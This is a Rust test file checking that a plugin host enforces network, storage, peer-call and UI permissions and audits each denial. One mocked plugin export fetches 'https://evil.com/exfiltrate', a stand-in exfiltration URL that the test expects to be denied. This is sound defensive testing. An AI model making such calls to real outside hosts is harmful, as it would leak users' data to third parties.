//! Permission enforcement tests for the mediated context API.
//!
//! Every mediated call crosses the real isolation boundary: the scripted
//! plugin issues host calls over the message channel and the host
//! permission-checks each one before touching shared state. Denials come
//! back as recoverable errors carrying the permission string, and land in
//! the audit trail.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::Arc;

use serde_json::json;
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use dplug_core::{AuditAction, HostConfig, PluginCode, PluginRegistry};
use dplug_protocol::HostCall;
use dplug_testing::{manifest, MockBehavior, MockExecutorFactory, MockPlugin};

fn code() -> PluginCode {
    PluginCode::Source("// plugin body".into())
}

fn registry_with(factory: &Arc<MockExecutorFactory>) -> PluginRegistry {
    PluginRegistry::with_factory(HostConfig::for_testing(), factory.clone())
}

//
// Network
//

#[tokio::test]
async fn allowed_domain_fetch_succeeds_and_foreign_domain_is_denied() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api"))
        .respond_with(ResponseTemplate::new(200).set_body_string("forecast data"))
        .mount(&server)
        .await;

    let factory = Arc::new(MockExecutorFactory::new());
    factory.register(
        "weather",
        MockPlugin::new()
            .with_export(
                "fetchAllowed",
                MockBehavior::HostCalls(vec![HostCall::NetFetch {
                    url: format!("{}/api", server.uri()),
                }]),
            )
            .with_export(
                "fetchForbidden",
                MockBehavior::HostCalls(vec![HostCall::NetFetch {
                    url: "https://evil.com/exfiltrate".into(),
                }]),
            ),
    );
    let registry = registry_with(&factory);
    registry
        .register_plugin(
            manifest("weather")
                .export("fetchAllowed")
                .export("fetchForbidden")
                .permissions(r#"{"network":["127.0.0.1"]}"#)
                .build(),
            code(),
        )
        .await
        .unwrap();
    registry.load_plugin("weather").await.unwrap();

    let allowed = registry
        .call_plugin("weather", "fetchAllowed", vec![])
        .await
        .unwrap();
    assert_eq!(allowed[0]["ok"]["status"], 200);
    assert_eq!(allowed[0]["ok"]["body"], "forecast data");

    let denied = registry
        .call_plugin("weather", "fetchForbidden", vec![])
        .await
        .unwrap();
    assert_eq!(denied[0]["err"], "permission denied: network.fetch");

    // The denial is audited.
    let denials: Vec<_> = registry
        .get_audit_log(Some("weather"))
        .await
        .into_iter()
        .filter(|entry| entry.action == AuditAction::PermissionDenied)
        .collect();
    assert_eq!(denials.len(), 1);
    assert_eq!(denials[0].details["permission"], "network.fetch");
}

//
// Storage
//

#[tokio::test]
async fn storage_requires_the_local_grant() {
    let factory = Arc::new(MockExecutorFactory::new());
    factory.register(
        "hoarder",
        MockPlugin::new().with_export(
            "stash",
            MockBehavior::HostCalls(vec![HostCall::StorageSet {
                key: "loot".into(),
                value: json!("gold"),
            }]),
        ),
    );
    let registry = registry_with(&factory);
    registry
        .register_plugin(manifest("hoarder").export("stash").build(), code())
        .await
        .unwrap();
    registry.load_plugin("hoarder").await.unwrap();

    let outcome = registry.call_plugin("hoarder", "stash", vec![]).await.unwrap();
    assert_eq!(outcome[0]["err"], "permission denied: storage.local");
}

#[tokio::test]
async fn missing_permission_block_defers_to_default_allow() {
    let factory = Arc::new(MockExecutorFactory::new());
    factory.register(
        "trusted",
        MockPlugin::new().with_export(
            "stash",
            MockBehavior::HostCalls(vec![
                HostCall::StorageSet {
                    key: "k".into(),
                    value: json!(42),
                },
                HostCall::StorageGet { key: "k".into() },
            ]),
        ),
    );
    let registry = PluginRegistry::with_factory(
        HostConfig::for_testing().with_default_allow(true),
        factory.clone(),
    );
    registry
        .register_plugin(manifest("trusted").export("stash").build(), code())
        .await
        .unwrap();
    registry.load_plugin("trusted").await.unwrap();

    let outcome = registry.call_plugin("trusted", "stash", vec![]).await.unwrap();
    assert_eq!(outcome[0]["ok"], true);
    assert_eq!(outcome[1]["ok"], 42);
}

//
// Peer calls
//

#[tokio::test]
async fn peer_calls_respect_the_plugins_allowlist() {
    let factory = Arc::new(MockExecutorFactory::new());
    factory.register(
        "notes",
        MockPlugin::new().with_export("list", MockBehavior::Return(json!(["milk", "eggs"]))),
    );
    factory.register(
        "dashboard",
        MockPlugin::new().with_export(
            "summary",
            MockBehavior::HostCalls(vec![HostCall::PeerCall {
                plugin: "notes".into(),
                method: "list".into(),
                args: vec![],
            }]),
        ),
    );
    factory.register(
        "rogue",
        MockPlugin::new().with_export(
            "snoop",
            MockBehavior::HostCalls(vec![HostCall::PeerCall {
                plugin: "notes".into(),
                method: "list".into(),
                args: vec![],
            }]),
        ),
    );

    let registry = registry_with(&factory);
    registry
        .register_plugin(manifest("notes").export("list").build(), code())
        .await
        .unwrap();
    registry
        .register_plugin(
            manifest("dashboard")
                .export("summary")
                .permissions(r#"{"plugins":["notes"]}"#)
                .build(),
            code(),
        )
        .await
        .unwrap();
    registry
        .register_plugin(manifest("rogue").export("snoop").build(), code())
        .await
        .unwrap();
    for id in ["notes", "dashboard", "rogue"] {
        registry.load_plugin(id).await.unwrap();
    }

    let granted = registry
        .call_plugin("dashboard", "summary", vec![])
        .await
        .unwrap();
    assert_eq!(granted[0]["ok"], json!(["milk", "eggs"]));

    let denied = registry.call_plugin("rogue", "snoop", vec![]).await.unwrap();
    assert_eq!(denied[0]["err"], "permission denied: plugins.call");
}

//
// UI
//

#[tokio::test]
async fn ui_notifications_need_the_ui_grant_and_surface_as_actions() {
    let factory = Arc::new(MockExecutorFactory::new());
    factory.register(
        "toaster",
        MockPlugin::new().with_export(
            "toast",
            MockBehavior::HostCalls(vec![HostCall::UiNotify {
                message: "build finished".into(),
            }]),
        ),
    );
    factory.register(
        "mute",
        MockPlugin::new().with_export(
            "toast",
            MockBehavior::HostCalls(vec![HostCall::UiNotify {
                message: "spam".into(),
            }]),
        ),
    );
    let registry = registry_with(&factory);
    let mut events = registry.subscribe();

    registry
        .register_plugin(
            manifest("toaster")
                .export("toast")
                .permissions(r#"{"ui":true}"#)
                .build(),
            code(),
        )
        .await
        .unwrap();
    registry
        .register_plugin(manifest("mute").export("toast").build(), code())
        .await
        .unwrap();
    registry.load_plugin("toaster").await.unwrap();
    registry.load_plugin("mute").await.unwrap();

    let granted = registry.call_plugin("toaster", "toast", vec![]).await.unwrap();
    assert_eq!(granted[0]["ok"], true);

    let action = tokio::time::timeout(std::time::Duration::from_secs(2), async {
        loop {
            let event = events.recv().await.unwrap();
            if event.kind() == "plugin-action" {
                return event;
            }
        }
    })
    .await
    .expect("expected a plugin-action event");
    assert_eq!(action.plugin_id(), "toaster");

    let denied = registry.call_plugin("mute", "toast", vec![]).await.unwrap();
    assert_eq!(denied[0]["err"], "permission denied: ui.render");
}

//
// Cache lifecycle
//

#[tokio::test]
async fn decisions_are_stable_until_unload() {
    let factory = Arc::new(MockExecutorFactory::new());
    factory.register(
        "steady",
        MockPlugin::new().with_export(
            "probe",
            MockBehavior::HostCalls(vec![HostCall::StorageGet { key: "k".into() }]),
        ),
    );
    let registry = registry_with(&factory);
    registry
        .register_plugin(
            manifest("steady")
                .export("probe")
                .permissions(r#"{"storage":{"local":true}}"#)
                .build(),
            code(),
        )
        .await
        .unwrap();
    registry.load_plugin("steady").await.unwrap();

    // Same decision on every call.
    for _ in 0..3 {
        let outcome = registry.call_plugin("steady", "probe", vec![]).await.unwrap();
        assert!(outcome[0].get("ok").is_some());
    }
}
